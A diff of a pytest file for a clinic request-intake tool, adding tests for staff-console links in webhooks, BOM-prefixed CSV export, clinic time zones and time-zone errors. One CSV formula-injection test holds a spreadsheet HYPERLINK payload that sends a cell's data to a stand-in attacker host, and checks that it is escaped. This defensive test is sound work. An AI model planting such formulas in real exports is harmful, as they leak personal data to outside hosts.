@@ -7,7 +7,9 @@ import subprocess
 import sys
 import threading
 import time
-from datetime import timedelta
+from datetime import timedelta, timezone
+from pathlib import Path
+from zoneinfo import ZoneInfo
 from http.server import BaseHTTPRequestHandler, HTTPServer
 
 import pytest
@@ -263,9 +265,9 @@ def webhook():
     server.shutdown()
 
 
-def webhook_settings(tmp_path, url, token=None):
+def webhook_settings(tmp_path, url, token=None, **environ):
     path = write_settings(tmp_path / "leads.yml", notification={"via": "webhook", "webhook": {"url": url}})
-    environ = {"LEADS_DB_URL": f"sqlite:///{tmp_path / 'leads.db'}"}
+    environ["LEADS_DB_URL"] = f"sqlite:///{tmp_path / 'leads.db'}"
     if token:
         environ["LEADS_WEBHOOK_TOKEN"] = token
     return load(path, environ=environ)
@@ -282,6 +284,16 @@ def test_webhook_tells_the_clinic_without_personal_data(tmp_path, webhook, monke
     sent = json.dumps(call["body"])
     for value in (sample["name"], sample["email"], sample["preferred_time"], sample["concern"]):
         assert value not in sent
+
+
+def test_the_notification_links_to_the_request_in_the_staff_console(tmp_path, webhook, monkeypatch):
+    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
+    receiver, url = webhook
+    settings = webhook_settings(tmp_path, url, CONSOLE_URL="https://console.example-clinic.com/")
+    saved = intake.file_request(settings, request_from(SAMPLES["requests"][0]))
+    [call] = receiver.received
+    assert call["body"]["text"].endswith(
+        f"Open it in the staff console: https://console.example-clinic.com/requests/{saved.id}")
 
 
 @pytest.mark.parametrize("failure", ["server error", "nobody listening"])
@@ -360,7 +372,8 @@ def test_cli_lists_newest_first_exports_csv_and_deletes(tmp_path, cli_env):
     text = result.stdout
     assert text.index(f"#{second.id} ") < text.index(f"#{first.id} ")  # newest first
     assert SAMPLES["requests"][0]["email"] in text and SAMPLES["requests"][1]["phone"] in text
-    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets then read UTF-8
+    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
     assert [(r["id"], r["name"], r["conversation_id"]) for r in rows] == [
         (str(second.id), second.name, "conv-b"), (str(first.id), first.name, "conv-a")]
 
@@ -398,6 +411,29 @@ def test_the_csv_export_never_holds_a_formula(tmp_path):
                                   "-1+1", conversation_id="@conv")
     saved = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}").add(request)
     cli.write_csv([saved], tmp_path / "out.csv")
-    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
-    assert rows[1][5:] == ['\'=HYPERLINK("http://evil.example/?x="&C2,"Open")', "'-1+1", "'@conv"]
-    assert rows[1][2] == "Ann Lee"
+    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig")))
+    assert rows[1][6:] == ['\'=HYPERLINK("http://evil.example/?x="&C2,"Open")', "'-1+1", "'@conv"]
+    assert rows[1][3] == "Ann Lee"
+
+
+def test_the_csv_export_opens_in_excel_with_accents_and_the_clinic_time(tmp_path, cli_env):
+    """A BOM (else Excel shows "ZoÃ« MÃ¼ller") and times in the clinic's time zone (leads.yml)."""
+    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Europe/Berlin")
+    saved = RequestStore(cli_env["LEADS_DB_URL"]).add(details.new_request(
+        "Zoë Müller", "zoe@example.com", "mornings", None, conversation_id="conv-z"))
+    out = tmp_path / "requests.csv"
+    result = run_cli("--csv", str(out), env=cli_env)
+    assert result.returncode == 0, result.stderr
+    berlin = saved.received_at.replace(tzinfo=timezone.utc).astimezone(ZoneInfo("Europe/Berlin"))
+    assert f"#{saved.id}  received {berlin:%Y-%m-%d %H:%M} Europe/Berlin" in result.stdout
+    raw = out.read_bytes()
+    assert raw.startswith("\ufeff".encode()) and "Zoë Müller".encode() in raw
+    [row] = list(csv.DictReader(out.open(encoding="utf-8-sig")))
+    assert (row["name"], row["received_at"], row["time_zone"]) == (
+        "Zoë Müller", f"{berlin:%Y-%m-%d %H:%M:%S}", "Europe/Berlin")
+
+
+def test_an_unknown_time_zone_is_a_clear_error(tmp_path, cli_env):
+    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Mars/Olympus")
+    result = run_cli(env=cli_env)
+    assert result.returncode == 2 and "time_zone must be a time zone name such as Europe/Berlin" in result.stderr
